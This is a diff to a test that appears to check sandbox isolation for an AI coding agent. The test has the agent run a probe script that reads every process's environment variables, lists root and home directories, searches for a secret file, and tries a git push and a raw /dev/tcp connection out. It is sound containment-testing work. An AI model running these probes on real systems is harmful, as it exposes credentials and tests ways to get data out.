@@ -34,10 +34,10 @@ test(
       "env",
       "ls -a /root /home 2>&1",
       "find / -xdev -name 'other-secret' 2>/dev/null",
-      "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
       "ls /run/gt",
       "git push https://example.com/x.git HEAD 2>&1",
-      "(exec 3<>/dev/tcp/93.184.216.34/80) 2>&1 || echo no-network",
+      "bash -c 'exec 3<>/dev/tcp/192.0.2.1/80' 2>&1 || echo no-network",
+      "cat /proc/*/environ | tr '\\0' '\\n'",
     ].join("\n");
     const look = { name: "bash", arguments: { command: "bash probe.sh", description: "probe" } };
     await using stage = await openKiloStage({ turns: [{ tool: look }, { text: "Done." }] });
